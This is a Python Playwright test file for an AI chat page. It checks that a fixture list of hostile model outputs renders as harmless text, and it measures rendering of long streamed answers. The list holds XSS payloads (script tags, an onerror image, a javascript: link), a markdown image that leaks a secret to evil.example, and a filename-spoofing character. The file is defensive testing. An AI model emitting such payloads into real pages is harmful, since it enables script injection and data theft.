"""Prompts and answers that mean ill, and long and fast ones: the page stays safe and smooth."""

from __future__ import annotations

import json
import sys
import time

import pytest
from playwright.sync_api import Page, expect

from app.engines.fake import Script
from tests.page.conftest import WAIT_MS, Asked, Opened, Played_

HOSTILE = (
    "<script>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "</div></section><h1>",
    "[x](javascript:alert(1))",
    "![y](https://evil.example/?q=secret)",
    "<style>*{display:none}</style>",
    "<a\x20href='data:text/html,x'>",
    "\x1b[31mred\x00\x07\x9b",
    "\u202egnp.exe\u2066",
    "שלום",
    "مرحبا",
    "{{files}}${1+1}",
    "\n\n**bold**",
    "\n\n#\x20Heading\n\n",
    "[link](https://example.org/a)",
)
MANY = 20_000  # tokens
AT_ONCE = 400  # that one frame draws at most; one that ends a line may have two elements
RECORD = """
  window.frames_ = []; window.blocked_ = []; window.most_ = 0;
  let last = 0;
  (function each(now) {
    if (last) frames_.push(now - last);
    last = now;
    requestAnimationFrame(each);
  })(0);
  new PerformanceObserver((list) => list.getEntries().forEach((one) => blocked_.push(one.duration)))
    .observe({ type: "longtask", buffered: true });
  // Its records come once for all that one frame's work has added.
  new MutationObserver((records) => {
    const added = records.flatMap((one) => [...one.addedNodes]);
    most_ = Math.max(most_, added.filter((one) => one.at !== undefined).length);
  }).observe(document.querySelector("#panes"), { childList: true, subtree: true });
"""


def stream(tokens: int) -> str:
    """An answer of so many, as its events."""
    said = (
        {
            "id": "chatcmpl-1",
            "choices": [{"index": 0, "delta": {"content": f"w{at} " if at % 40 else "end.\n"}}],
            "farthing": {"model": "large", "entropy": at * 7 % 60 / 10, "accepted": at % 3 == 0},
        }
        for at in range(tokens)
    )
    return "".join(f"data: {json.dumps(one)}\n\n" for one in said) + "data: [DONE]\n\n"


def quiet(page: Page) -> dict[str, int]:
    """Elements within the answer, by what they are."""
    names = "[...document.querySelectorAll('.ink *, .markdown *')].map((one) => one.localName)"
    found: list[str] = page.evaluate(names)
    return {name: found.count(name) for name in found}


def test_what_models_write_is_text_whatever_it_looks_like(played: Played_, visit: Opened) -> None:
    with played({"large": Script(HOSTILE, context=10_000)}) as gateway:
        page = visit(gateway.url)
        prompt = "".join(HOSTILE)
        Asked(page).fill(prompt, "large", usd="").send().ended()
        ink = page.locator(".ink")
        expect(ink).to_contain_text("<script>alert(1)</script>")
        expect(ink).to_contain_text("␛[31mred␀␇\ufffd")
        expect(ink).to_contain_text("\ufffdgnp.exe\ufffd")
        assert set(quiet(page)) == {"span", "div"}
        assert page.locator(".block").count() >= 2  # paragraphs have directions of their own
        expect(page.locator("h1")).to_have_count(1)
        sent = gateway.fake.calls[0].messages[0]["content"]
        assert "<script>" in sent and "שלום" in sent


def test_as_markdown_nothing_passes_that_runs_or_loads(played: Played_, visit: Opened) -> None:
    with played({"large": Script(HOSTILE, context=10_000)}) as gateway:
        page = visit(gateway.url)
        Asked(page).fill("why", "large", usd="").send().ended()
        page.check(".views input[value=markdown]")
        shown = page.locator(".markdown")
        expect(shown.locator("strong")).to_have_text("bold")
        expect(shown.locator("h3")).to_have_count(1)  # below the answer's own heading
        links = {one.get_attribute("href") for one in shown.locator("a").all()}
        assert links <= {"https://example.org/a", None} and "https://example.org/a" in links
        expect(shown).to_contain_text("<script>alert(1)</script>")
        expect(shown).to_contain_text("![y](https://evil.example/?q=secret)")
        assert not {"script", "img", "style", "iframe", "form", "section"} & set(quiet(page))
        expect(page.locator("h1")).to_have_count(1)
        page.check(".views input[value=text]")
        expect(page.locator(".ink")).to_be_visible()


def test_what_comes_all_at_once_is_drawn_a_bounded_part_a_frame(
    played: Played_, visit: Opened
) -> None:
    with played() as gateway:
        page = visit(gateway.url)
        page.route(
            "**/chat/completions",
            lambda route: route.fulfill(body=stream(MANY), content_type="text/event-stream"),
        )
        page.evaluate(RECORD)
        Asked(page).fill("write", "large", usd="").send().ended()
        expect(page.locator(".tokens")).to_have_text(str(MANY))
        assert page.locator(".ink .t").count() == MANY
        assert 0 < page.evaluate("most_") <= 2 * AT_ONCE
        assert len(page.evaluate("frames_")) >= MANY / AT_ONCE


def test_a_long_and_fast_answer_is_drawn_as_it_comes(
    played: Played_, visit: Opened, capsys: pytest.CaptureFixture[str]
) -> None:
    """The times are told, not judged: they are the machine's."""
    words = [f"w{at}" if at % 40 else "end.\n" for at in range(MANY)]
    script = Script(words, [at * 7 % 60 / 10 for at in range(MANY)], context=MANY + 1000)
    with played({"small": script, "large": script}) as gateway:
        page = visit(gateway.url)
        page.evaluate(RECORD)
        thread = page.context.new_cdp_session(page)
        thread.send("Performance.enable", {"timeDomain": "threadTicks"})
        asked = Asked(page).fill("write", "economy", usd="", most=str(MANY))
        began = time.monotonic()
        asked.send()
        # `expect` would look through all of the page each time it looks.
        while page.evaluate("document.querySelector('.pane').dataset.drawn") != "all":
            page.wait_for_timeout(250)
            assert time.monotonic() < began + WAIT_MS / 1000
        took = time.monotonic() - began
        used = {m["name"]: m["value"] for m in thread.send("Performance.getMetrics")["metrics"]}
        frames = sorted(page.evaluate("frames_"))
        told = {
            "tokens": MANY,
            "tokens a second": round(MANY / took),
            "frames": len(frames),
            "median ms": round(frames[len(frames) // 2], 1),
            "95 % ms": round(frames[int(len(frames) * 0.95)], 1),
            "longest ms": round(frames[-1], 1),
            "tasks above 50 ms": len(page.evaluate("blocked_")),
            "its scripts, s of CPU": round(used["ScriptDuration"], 2),
            "layout and style, s of CPU": round(
                used["LayoutDuration"] + used["RecalcStyleDuration"], 2
            ),
        }
        with capsys.disabled():
            sys.stdout.write(f"\na long answer: {json.dumps(told)}\n")
        expect(page.locator(".tokens")).to_have_text(str(MANY))
        assert page.locator(".ink .t").count() >= MANY
        # Not all at its end, and not each token by itself.
        assert MANY / AT_ONCE < len(frames) < MANY
        page.focus(".ink")
        page.keyboard.press("End")
        expect(page.locator(".detail")).to_contain_text(f"token {MANY}:")
        Asked(page).fill("again", "small", most="5").send().ended()
        expect(page.locator(".tokens")).to_have_text("5")
